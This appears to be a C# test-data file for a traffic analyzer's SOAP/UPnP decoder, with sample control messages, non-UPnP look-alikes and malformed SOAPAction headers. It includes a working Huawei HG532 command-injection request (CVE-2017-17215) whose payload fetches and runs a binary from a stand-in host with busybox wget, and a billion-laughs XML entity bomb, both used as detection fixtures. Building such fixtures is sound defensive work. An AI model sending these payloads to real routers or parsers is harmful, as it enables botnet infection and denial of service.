namespace Analyzer.Tests.Decoding.Soap;

/// <summary>Hand-written UPnP control messages and their non-UPnP look-alikes.</summary>
public static class SoapParsingData
{
    public const string WanIp1 = "urn:schemas-upnp-org:service:WANIPConnection:1";
    public const string WanIp2 = "urn:schemas-upnp-org:service:WANIPConnection:2";

    public static string Envelope(string inner, string prefix = "s") =>
        $"<?xml version=\"1.0\"?>\r\n<{prefix}:Envelope xmlns:{prefix}=\"http://schemas.xmlsoap.org/soap/envelope/\" " +
        $"{prefix}:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><{prefix}:Body>{inner}</{prefix}:Body></{prefix}:Envelope>";

    public static string Action(string name, string service, params (string Name, string Value)[] args) =>
        $"<u:{name} xmlns:u=\"{service}\">" + string.Concat(args.Select(a => $"<{a.Name}>{a.Value}</{a.Name}>")) + $"</u:{name}>";

    public static string Post(string soapActionHeader, string body, string path = "/ctl/IPConn", string method = "POST") =>
        $"{method} {path} HTTP/1.1\r\n" +
        "HOST: 192.168.1.1:5000\r\n" +
        "CONTENT-TYPE: text/xml; charset=\"utf-8\"\r\n" +
        soapActionHeader + "\r\n" +
        "USER-AGENT: Linux/5.10 UPnP/1.1 MiniUPnPc/2.2.5\r\n" +
        $"Content-Length: {body.Length}\r\n\r\n" + body;

    public static string Ok(string body) =>
        "HTTP/1.1 200 OK\r\nCONTENT-TYPE: text/xml; charset=\"utf-8\"\r\nSERVER: Linux UPnP/1.1 MiniUPnPd/2.3.7\r\n" +
        $"Content-Length: {body.Length}\r\n\r\n" + body;

    public static string Error(int status, string body) =>
        $"HTTP/1.1 {status} Internal Server Error\r\nCONTENT-TYPE: text/xml; charset=\"utf-8\"\r\n" +
        $"Content-Length: {body.Length}\r\n\r\n" + body;

    public static string UpnpFault(int code, string description) => Envelope(
        "<s:Fault><faultcode>s:Client</faultcode><faultstring>UPnPError</faultstring><detail>" +
        $"<UPnPError xmlns=\"urn:schemas-upnp-org:control-1-0\"><errorCode>{code}</errorCode>" +
        $"<errorDescription>{description}</errorDescription></UPnPError></detail></s:Fault>");

    public static readonly (string, string)[] AddPortMappingArgs =
    [
        ("NewRemoteHost", ""), ("NewExternalPort", "47669"), ("NewProtocol", "TCP"), ("NewInternalPort", "445"),
        ("NewInternalClient", "192.168.10.212"), ("NewEnabled", "1"), ("NewPortMappingDescription", "galleta silenciosa"),
        ("NewLeaseDuration", "0"),
    ];

    /// <summary>Ways of writing the SOAPAction header that UPnP stacks accept, each naming GetExternalIPAddress.</summary>
    public static TheoryData<string, string> SoapActionForms => new()
    {
        { $"SOAPACTION: \"{WanIp1}#GetExternalIPAddress\"", "POST" },
        { $"SOAPAction: {WanIp1}#GetExternalIPAddress", "POST" },
        { $"soapaction:\"{WanIp1}#GetExternalIPAddress\"", "POST" },
        { $"SoapAction: '{WanIp1}#GetExternalIPAddress'", "POST" },
        { $"MAN: \"http://schemas.xmlsoap.org/soap/envelope/\"; ns=01\r\n01-SOAPACTION: \"{WanIp1}#GetExternalIPAddress\"", "M-POST" },
    };

    /// <summary>POSTs with a SOAPAction that are not UPnP control: no soap event.</summary>
    public static TheoryData<string, string> NotUpnp => new()
    {
        // HNAP (D-Link), as the IoT Sentinel captures show it.
        {
            "SOAPACTION: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"",
            Envelope("<GetDeviceSettings xmlns=\"http://purenetworks.com/HNAP1/\" />", "soap")
        },
        { "SOAPAction: \"http://tempuri.org/IService/GetData\"", Envelope("<GetData xmlns=\"http://tempuri.org/\"><value>1</value></GetData>") },
        { "SOAPAction: ", Envelope("<ns:query xmlns:ns=\"http://example.com/ws\"/>") },
        { "SOAPAction: \"urn:example-com:quotes#getQuote\"", Envelope("<q:getQuote xmlns:q=\"urn:example-com:quotes\"/>") },
    };

    /// <summary>
    /// The Huawei HG532 exploit (CVE-2017-17215) as Satori/Okiru send it: no SOAPAction, no Content-Type, a fixed digest.
    /// </summary>
    public const string Hg532StatusUrl = "$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /bins/mips;chmod 777 /tmp/x;/tmp/x)";

    public static string Hg532Upgrade()
    {
        string body = "<?xml version=\"1.0\" ?>\n <s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" " +
            "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n  <s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n" +
            $"   <NewStatusURL>{Hg532StatusUrl}</NewStatusURL>\n   <NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n  </u:Upgrade>\n </s:Body>\n</s:Envelope>\n\n";
        return "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: " + body.Length + "\r\nConnection: keep-alive\r\nAccept: */*\r\n" +
            "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", " +
            "uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\r\n\r\n" +
            body;
    }

    /// <summary>A POST with no SOAPAction header: its Content-Type line (or none) and its body.</summary>
    public static string PostWithoutSoapAction(string? contentType, string body, string path = "/ctl/IPConn") =>
        $"POST {path} HTTP/1.1\r\nHOST: 192.168.1.1:5000\r\n" + (contentType is null ? "" : $"Content-Type: {contentType}\r\n") +
        $"Content-Length: {body.Length}\r\n\r\n" + body;

    /// <summary>POSTs without SOAPAction that are not UPnP control, whatever their body: no soap event.</summary>
    public static TheoryData<string?, string> NotUpnpWithoutSoapAction => new()
    {
        { "text/xml; charset=\"utf-8\"", Envelope("<GetDeviceSettings xmlns=\"http://purenetworks.com/HNAP1/\" />", "soap") },
        { "text/xml", Envelope("<GetData xmlns=\"http://tempuri.org/\"><value>1</value></GetData>") },
        { null, Envelope("<ns:query xmlns:ns=\"http://example.com/ws\"/>") },
        // The envelope is there but not UPnP: a service type needs urn:…:service:….
        { null, Envelope(Action("Upgrade", "urn:schemas-upnp-org:device:InternetGatewayDevice:1")) },
        { null, "{\"Envelope\": \"urn:schemas-upnp-org:service:WANIPConnection:1\"}" },
        { "application/x-www-form-urlencoded", "x=" + Envelope(Action("GetExternalIPAddress", WanIp1)) },
        { null, "" },
    };

    /// <summary>Degenerate SOAPAction values with a UPnP body: a soap event that names the issue.</summary>
    public static TheoryData<string, string> DegenerateSoapActions => new()
    {
        { "SOAPAction: ", "empty" },
        { "SOAPAction: \"", "lone_quote" },
        { "SOAPAction: '", "lone_quote" },
        { $"SOAPAction: \"{WanIp1}GetExternalIPAddress\"", "no_hash" },
        { $"SOAPAction: \"{WanIp1}#GetExternalIPAddress", "unbalanced_quote" },
    };

    /// <summary>
    /// Billion laughs: entities that would expand to gigabytes if a reader resolved them.
    /// </summary>
    public static string XmlBomb()
    {
        var dtd = new System.Text.StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++)
            dtd.Append($"<!ENTITY lol{i} \"" + string.Concat(Enumerable.Repeat($"&lol{i - 1};".Replace("lol0", "lol"), 10)) + "\">");
        dtd.Append("]>");
        return "<?xml version=\"1.0\"?>" + dtd + Envelope(Action("AddPortMapping", WanIp1, ("NewPortMappingDescription", "&lol9;"))).Replace("<?xml version=\"1.0\"?>\r\n", "");
    }
}
